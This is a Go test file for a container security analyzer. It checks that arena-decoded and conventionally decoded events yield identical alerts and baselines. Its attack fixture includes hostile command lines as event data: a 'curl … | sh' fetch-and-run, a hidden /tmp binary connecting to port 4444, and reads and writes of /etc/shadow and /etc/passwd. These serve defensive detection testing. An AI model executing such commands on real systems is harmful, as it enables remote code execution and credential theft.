package analyzer

import (
	"fmt"
	"reflect"
	"slices"
	"testing"
	"time"
	"unsafe"

	"google.golang.org/protobuf/proto"

	"github.com/containsec/contain/internal/bus"
	"github.com/containsec/contain/schemas/containv1"
)

// twinEngines runs one engine on batches decoded by bus.DecodeAliased
// (main's consumer) and one on batches decoded in a bus.Arena (the
// consumer with ReuseEvents), and holds them to the same alerts, counters
// and baselines.
type twinEngines struct {
	decoded, arena *Engine
	a              bus.Arena
	// reused are the addresses of what the arena handed out (events,
	// bodies, processes, slices' arrays): the engine must keep none.
	reused map[uintptr]bool
	// alive keeps each of them reachable: an event the arena decoded
	// with the generated code is ordinary heap memory, and once freed its
	// address could be the engine's next allocation (a false finding).
	alive []unsafe.Pointer
}

func newTwins(t testing.TB) *twinEngines {
	return &twinEngines{decoded: newEngine(t, testConfig(), nil), arena: newEngine(t, testConfig(), nil), reused: map[uintptr]bool{}}
}

// fetch observes a fetch of payloads on both engines and reports how many
// alerts it raised.
func (w *twinEngines) fetch(t testing.TB, payloads ...[]byte) int {
	t.Helper()
	w.a.Reset()
	alerts := 0
	for _, data := range payloads {
		want, werr := bus.DecodeAliased(data)
		got, err := w.a.Decode(data)
		if (err == nil) != (werr == nil) {
			t.Fatalf("arena: %v, DecodeAliased: %v", err, werr)
		}
		if werr != nil {
			continue
		}
		for i, ev := range got.Events {
			w.note(ev)
			outA := w.arena.Observe(ev)
			outD := w.decoded.Observe(want.Events[i])
			if len(outA) != len(outD) {
				t.Fatalf("event %d: %d alerts from the arena, %d decoded", i, len(outA), len(outD))
			}
			for k := range outA {
				if !proto.Equal(outA[k], outD[k]) {
					t.Fatalf("event %d: alert\n%v\nfrom the arena, decoded\n%v", i, outA[k], outD[k])
				}
			}
			alerts += len(outA)
		}
		if sa, sd := w.arena.Stats(), w.decoded.Stats(); sa != sd {
			t.Fatalf("stats: arena %+v, decoded %+v", sa, sd)
		}
	}
	return alerts
}

// note records the addresses of ev's storage.
func (w *twinEngines) note(ev *containv1.Event) {
	add := func(p unsafe.Pointer) {
		if p != nil {
			w.reused[uintptr(p)] = true
			w.alive = append(w.alive, p)
		}
	}
	add(unsafe.Pointer(ev))
	var proc *containv1.Process
	switch b := ev.Body.(type) {
	case *containv1.Event_Exec:
		add(unsafe.Pointer(b))
		add(unsafe.Pointer(b.Exec))
		add(unsafe.Pointer(unsafe.SliceData(b.Exec.Argv)))
		proc = b.Exec.Proc
	case *containv1.Event_Syscall:
		add(unsafe.Pointer(b))
		add(unsafe.Pointer(b.Syscall))
		add(unsafe.Pointer(unsafe.SliceData(b.Syscall.Args)))
		add(unsafe.Pointer(unsafe.SliceData(b.Syscall.Sequence)))
		proc = b.Syscall.Proc
	case *containv1.Event_Network:
		add(unsafe.Pointer(b))
		add(unsafe.Pointer(b.Network))
		proc = b.Network.Proc
	case *containv1.Event_File:
		add(unsafe.Pointer(b))
		add(unsafe.Pointer(b.File))
		proc = b.File.Proc
	case *containv1.Event_Process:
		add(unsafe.Pointer(b))
		add(unsafe.Pointer(b.Process))
		proc = b.Process.Proc
	}
	add(unsafe.Pointer(proc))
}

// same holds the two engines' baselines equal, and the arena's engine to
// keeping nothing the arena handed out.
func (w *twinEngines) same(t testing.TB) {
	t.Helper()
	keys := func(e *Engine) []string {
		var out []string
		for k := range e.images {
			out = append(out, k)
		}
		slices.Sort(out)
		return out
	}
	if ka, kd := keys(w.arena), keys(w.decoded); !slices.Equal(ka, kd) {
		t.Fatalf("baselines: arena %v, decoded %v", ka, kd)
	}
	for _, k := range keys(w.arena) {
		da, _ := w.arena.Snapshot(k)
		dd, _ := w.decoded.Snapshot(k)
		if !reflect.DeepEqual(da, dd) {
			t.Fatalf("baseline %s: arena %+v, decoded %+v", k, da, dd)
		}
	}
	w.arena.devs = nil // scratch of the last event, not kept
	if bad := keeps(reflect.ValueOf(w.arena), w.reused); len(bad) > 0 {
		t.Fatalf("the engine keeps the arena's storage: %v", bad)
	}
}

// keeps lists the paths under v of pointers and slices into reused.
func keeps(v reflect.Value, reused map[uintptr]bool) []string {
	var out []string
	seen := map[uintptr]bool{}
	var walk func(v reflect.Value, path string, depth int)
	walk = func(v reflect.Value, path string, depth int) {
		if depth > 40 || len(out) > 20 {
			return
		}
		switch v.Kind() {
		case reflect.Slice:
			if v.IsNil() || v.Cap() == 0 {
				return
			}
			p := uintptr(v.UnsafePointer())
			if reused[p] {
				out = append(out, path)
			}
			if seen[p] || v.Type().Elem().Kind() == reflect.Uint8 {
				return
			}
			seen[p] = true
			for i := range v.Len() {
				walk(v.Index(i), path+"[]", depth+1)
			}
		case reflect.Array:
			for i := range v.Len() {
				walk(v.Index(i), path+"[]", depth+1)
			}
		case reflect.Pointer:
			if v.IsNil() {
				return
			}
			if reused[v.Pointer()] {
				out = append(out, path)
			}
			if seen[v.Pointer()] {
				return
			}
			seen[v.Pointer()] = true
			walk(v.Elem(), path, depth+1)
		case reflect.Interface:
			if !v.IsNil() {
				walk(v.Elem(), path, depth+1)
			}
		case reflect.Map:
			if v.IsNil() || seen[v.Pointer()] {
				return
			}
			seen[v.Pointer()] = true
			it := v.MapRange()
			for it.Next() {
				walk(it.Value(), path+"[.]", depth+1)
			}
		case reflect.Struct:
			for i := range v.NumField() {
				walk(v.Field(i), path+"."+v.Type().Field(i).Name, depth+1)
			}
		}
	}
	walk(v, "", 0)
	return out
}

// encodeOne is ev alone in an enriched batch.
func encodeOne(t testing.TB, evs ...*containv1.Event) []byte {
	t.Helper()
	data, err := bus.Encode(&containv1.Batch{SchemaVersion: containv1.SchemaVersion, Host: "h1", Stage: "enricher", ProducerId: "p", Seq: 1, Events: evs})
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// learnStream is TestEngineKeepsNoPayload's learning period for ctr.
func learnStream(ctr string) []*containv1.Event {
	fork := base(ctr, sec(0.5))
	fork.Kind = containv1.Kind_KIND_PROCESS
	fork.Body = &containv1.Event_Process{Process: &containv1.ProcessLifecycle{Proc: &containv1.Process{Pid: 11, Tgid: 11, Ppid: 10, Comm: "httpd"}, Op: containv1.ProcessLifecycle_OP_FORK, ChildTgid: 12}}
	evs := []*containv1.Event{
		ctrEv(ctr, sec(0), "demo:1", "sha256:aaaa", map[string]string{"io.kubernetes.pod.name": "web-1", "app": "web"}),
		execEv(ctr, sec(0), "/bin/httpd", "/bin/httpd", "-f", "-p", "8080"),
		netEv(ctr, sec(0.1), containv1.Network_OP_LISTEN, [4]byte{0, 0, 0, 0}, 8080),
		seqEv(ctr, sec(0.25), 7, 1, 2, 3, 4, 1, 2, 3, 4),
		netEv(ctr, sec(0.3), containv1.Network_OP_CONNECT, [4]byte{10, 0, 0, 5}, 5432),
		fileEv(ctr, sec(0.4), containv1.File_OP_OPEN_WRITE, "/var/www/cache/x"),
		fork,
		execEv(ctr, sec(1), "/bin/sleep", "sleep", "1"),
		execEv(ctr, sec(2), "/bin/sleep", "sleep", "1"),
	}
	for i, s := range []string{"read", "write", "accept4", "openat", "close"} {
		evs = append(evs, sysEv(ctr, sec(0.2+float64(i)/100), s))
	}
	return evs
}

// attackStream is deviations of every kind the engine scores.
func attackStream() []*containv1.Event {
	sess := execEv("c1", sec(6.5), "/bin/sh", "sh")
	sess.GetExec().Proc.Origin = containv1.Origin_ORIGIN_EXEC_SESSION
	return []*containv1.Event{
		execEv("c1", sec(5), "/tmp/.x1", "/tmp/.x1", "-c", "203.0.113.7:4444"),
		execEv("c1", sec(5.1), "/bin/sh", "sh", "-c", "curl http://203.0.113.9/x | sh"),
		sysEv("c1", sec(5.3), "unshare"),
		seqEv("c1", sec(5.35), 7, 9, 8, 7, 6, 5),
		netEv("c1", sec(5.4), containv1.Network_OP_CONNECT, [4]byte{10, 9, 9, 9}, 4444),
		netEv("c2", sec(5.4), containv1.Network_OP_CONNECT, [4]byte{10, 9, 9, 8}, 4443),
		netEv("c1", sec(5.5), containv1.Network_OP_LISTEN, [4]byte{}, 31337),
		fileEv("c1", sec(5.6), containv1.File_OP_OPEN_WRITE, "/etc/passwd"),
		fileEv("c2", sec(5.8), containv1.File_OP_OPEN_READ, "/etc/shadow"),
		fileEv("c2", sec(5.9), containv1.File_OP_CHMOD, "/tmp/.x2"),
		execEv("c2", sec(6), "/tmp/.x2", "/tmp/.x2"),
		sess,
	}
}

// TestArenaObservesAsDecoded: the fleet's event mix (learning, then
// scoring) and deviations of every kind, in fetches of several batches,
// raise the same alerts and leave the same counters and baselines whether
// the events were decoded by DecodeAliased or in a reused arena; the
// engine keeps nothing of the arena's storage.
// The fleet's batches come with and without a container dictionary.
func TestArenaObservesAsDecoded(t *testing.T) {
	for _, dict := range []bool{false, true} {
		t.Run(fmt.Sprintf("dictionary=%v", dict), func(t *testing.T) { arenaObservesAsDecoded(t, dict) })
	}
}

func arenaObservesAsDecoded(t *testing.T, dict bool) {
	w := newTwins(t)
	mix := newFleetMix(3, 8, 4, 40)
	mix.dict = dict
	step := int64(50 * time.Millisecond)
	at := t0
	for at < t0+2*int64(testConfig().LearningWindow)+int64(time.Second) {
		w.fetch(t, mix.batches(t, at)...)
		at += step
	}
	var fetch [][]byte
	for _, ctr := range []string{"c1", "c2"} {
		for _, ev := range learnStream(ctr) {
			fetch = append(fetch, encodeOne(t, ev))
		}
	}
	w.fetch(t, fetch...)
	w.same(t)
	var attacks [][]byte
	for _, ev := range attackStream() {
		attacks = append(attacks, encodeOne(t, ev))
	}
	attacks = append(attacks, mix.batches(t, at)...)
	if n := w.fetch(t, attacks...); n == 0 {
		t.Fatal("no alert: the stream does not reach scoring")
	}
	if w.arena.Stats().Scored == 0 {
		t.Fatalf("nothing scored: %+v", w.arena.Stats())
	}
	w.same(t)
}

// FuzzArenaObservesAsDecoded: any payload, after a learned period, is
// refused alike or raises the same alerts, counters and baselines on both
// paths.
func FuzzArenaObservesAsDecoded(f *testing.F) {
	for _, ev := range attackStream() {
		f.Add(encodeOne(f, ev))
	}
	f.Add(encodeOne(f, learnStream("c3")...))
	f.Fuzz(func(t *testing.T, data []byte) {
		w := newTwins(t)
		var fetch [][]byte
		for _, ctr := range []string{"c1", "c2"} {
			for _, ev := range learnStream(ctr) {
				fetch = append(fetch, encodeOne(t, ev))
			}
		}
		w.fetch(t, fetch...)
		w.fetch(t, data, data)
		w.same(t)
	})
}
